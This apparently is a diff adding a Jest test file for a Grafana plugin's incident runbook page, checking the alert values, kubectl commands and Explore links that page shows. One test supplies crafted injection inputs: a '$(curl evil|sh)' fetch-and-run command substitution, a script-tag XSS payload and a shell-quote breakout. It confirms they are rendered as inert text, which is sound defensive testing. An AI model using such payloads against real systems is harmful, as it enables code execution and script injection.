@@ -1,0 +1,147 @@
+import React from 'react';
+import { MemoryRouter, Route, Routes } from 'react-router-dom';
+import { render, screen, within } from '@testing-library/react';
+import { buildCordonRules } from '../../alerting/rules';
+import { SettingsProvider } from '../../components/App/SettingsContext';
+import { CATALOG } from '../../detections/catalog';
+import { CordonSettings, DEFAULT_SETTINGS } from '../../settings';
+import RunbookPage from './RunbookPage';
+
+jest.mock('@grafana/runtime', () => ({
+  ...jest.requireActual('@grafana/runtime'),
+  config: { appUrl: 'https://grafana.example.com/', appSubUrl: '' },
+  PluginPage: ({ pageNav, children }: { pageNav?: { text: string }; children: React.ReactNode }) => (
+    <div>
+      <h1>{pageNav?.text}</h1>
+      {children}
+    </div>
+  ),
+}));
+
+const DETECTION = CATALOG.find((detection) => detection.id === 'k8s-privileged-container')!;
+const ALERT_TIME = 1740830400;
+
+/** Go's url.QueryEscape, which the `urlquery` template function uses: spaces become "+". */
+function queryEscape(value: string): string {
+  return encodeURIComponent(value).replace(/%20/g, '+');
+}
+
+/**
+ * Renders a rule's runbook_url the way Grafana does for one alert: each `{{ $labels.x | urlquery }}`
+ * becomes the escaped label value, and notification templates append the alert time.
+ */
+function runbookUrlFor(detectionId: string, labels: Record<string, string>): URL {
+  const { groups } = buildCordonRules({ grafanaUrl: 'https://grafana.example.com', settings: DEFAULT_SETTINGS });
+  const rule = groups.flatMap((group) => group.rules).find((candidate) => candidate.detectionId === detectionId)!;
+  const rendered = rule.annotations.runbook_url.replace(/\{\{ \$labels\.([a-z_]+) \| urlquery \}\}/g, (_match, name: string) =>
+    queryEscape(labels[name] ?? '')
+  );
+  return new URL(`${rendered}&time=${ALERT_TIME}`);
+}
+
+function renderPage(path: string, jsonData: Partial<CordonSettings> = { lokiUid: 'loki-uid' }) {
+  return render(
+    <SettingsProvider jsonData={jsonData}>
+      <MemoryRouter initialEntries={[path]} future={{ v7_startTransition: true, v7_relativeSplatPath: true }}>
+        <Routes>
+          <Route path="/a/cordon-detection-app/runbook/:detectionId" element={<RunbookPage />} />
+        </Routes>
+      </MemoryRouter>
+    </SettingsProvider>
+  );
+}
+
+function commandText(id: string): string {
+  return screen.getByTestId(`command-${id}`).textContent ?? '';
+}
+
+const LABELS = { namespace: 'prod', pod: 'web-1', resource: 'pods', name: 'web-1', user: 'system:serviceaccount:ci:deployer' };
+
+describe('RunbookPage', () => {
+  test('reads the values of a generated runbook_url', () => {
+    const url = runbookUrlFor(DETECTION.id, LABELS);
+    renderPage(url.pathname + url.search);
+
+    expect(screen.getByRole('heading', { level: 1 })).toHaveTextContent(`Runbook: ${DETECTION.title}`);
+    const values = screen.getByLabelText('Alert values');
+    expect(within(values).getByText('prod')).toBeInTheDocument();
+    expect(within(values).getByText('system:serviceaccount:ci:deployer')).toBeInTheDocument();
+    expect(within(values).getByText('2025-03-01T12:00:00.000Z')).toBeInTheDocument();
+    expect(commandText('evidence-logs')).toContain("kubectl logs -n 'prod' 'web-1' --all-containers");
+    expect(commandText('forensics-actor')).toContain("--as 'system:serviceaccount:ci:deployer'");
+  });
+
+  test('links to Explore around the alert time', () => {
+    const url = runbookUrlFor(DETECTION.id, LABELS);
+    renderPage(url.pathname + url.search);
+
+    const links = screen.getAllByRole('link', { name: /open in explore/i });
+    expect(links.length).toBeGreaterThan(1);
+    const podLink = links.map((link) => new URL(link.getAttribute('href')!, 'http://localhost')).find((href) => {
+      const panes = JSON.parse(href.searchParams.get('panes')!);
+      return panes.crd.queries[0].expr.includes('cordon_objectRef_namespace="prod"');
+    })!;
+    const pane = JSON.parse(podLink.searchParams.get('panes')!).crd;
+    expect(pane.datasource).toBe('loki-uid');
+    expect(pane.range).toEqual({ from: String((ALERT_TIME - 15 * 60) * 1000), to: String((ALERT_TIME + 15 * 60) * 1000) });
+  });
+
+  test('shows the detection guidance from the catalog', () => {
+    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}`);
+
+    for (const step of [...DETECTION.response.investigate, ...DETECTION.response.contain, ...DETECTION.response.remediate]) {
+      expect(screen.getByText(step)).toBeInTheDocument();
+    }
+    for (const lookAlike of DETECTION.falsePositives) {
+      expect(screen.getByText(lookAlike)).toBeInTheDocument();
+    }
+    expect(screen.getByRole('link', { name: `${DETECTION.technique.id} ${DETECTION.technique.name}` })).toBeInTheDocument();
+  });
+
+  test('shows placeholders without alert values', () => {
+    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}`);
+
+    expect(screen.getByText('Opened without alert values')).toBeInTheDocument();
+    expect(commandText('evidence-logs')).toContain('kubectl logs -n <namespace> <pod>');
+    expect(screen.queryByRole('link', { name: /open in explore/i })).not.toBeNull();
+    expect(screen.getAllByText(/Needs <namespace> and <pod> from the alert/).length).toBeGreaterThan(0);
+  });
+
+  test('renders crafted values as text', () => {
+    const url = runbookUrlFor(DETECTION.id, { ...LABELS, namespace: '$(curl evil|sh)', pod: '<script>alert(1)</script>', user: "x'; id; '" });
+    const { container } = renderPage(url.pathname + url.search);
+
+    expect(container.querySelector('script')).toBeNull();
+    expect(screen.getByText('<script>alert(1)</script>')).toBeInTheDocument();
+    expect(commandText('evidence-logs')).toContain('kubectl logs -n <namespace> <pod>');
+    expect(commandText('forensics-actor')).toContain(`--as 'x'\\''; id; '\\''' -n <namespace>`);
+    const warnings = screen.getAllByText(/is not a valid Kubernetes (namespace|pod) name/);
+    expect(warnings).toHaveLength(2);
+  });
+
+  test('explains a missing Loki data source', () => {
+    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}?namespace=prod&pod=web-1`, {});
+
+    expect(screen.getByText('Configure the Loki data source to open these queries in Explore')).toBeInTheDocument();
+    expect(screen.queryByRole('link', { name: /open in explore/i })).toBeNull();
+  });
+
+  test('shows invalid settings and still the commands', () => {
+    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}?namespace=prod&pod=web-1`, { maxArrayElements: 0 });
+
+    expect(screen.getByText("Cordon's settings are invalid")).toBeInTheDocument();
+    expect(commandText('evidence-logs')).toContain("'prod' 'web-1'");
+  });
+
+  test('explains an unknown detection id', () => {
+    renderPage('/a/cordon-detection-app/runbook/no-such-detection?pod=web-1');
+
+    expect(screen.getByText('No runbook for this detection')).toBeInTheDocument();
+    expect(screen.getByText(/no detection with the id "no-such-detection"/)).toBeInTheDocument();
+    expect(screen.getByRole('link', { name: 'Find the detection on the Detections page' })).toHaveAttribute(
+      'href',
+      '/a/cordon-detection-app/detections'
+    );
+    expect(screen.getByRole('link', { name: 'return to the alert rules' })).toBeInTheDocument();
+  });
+});
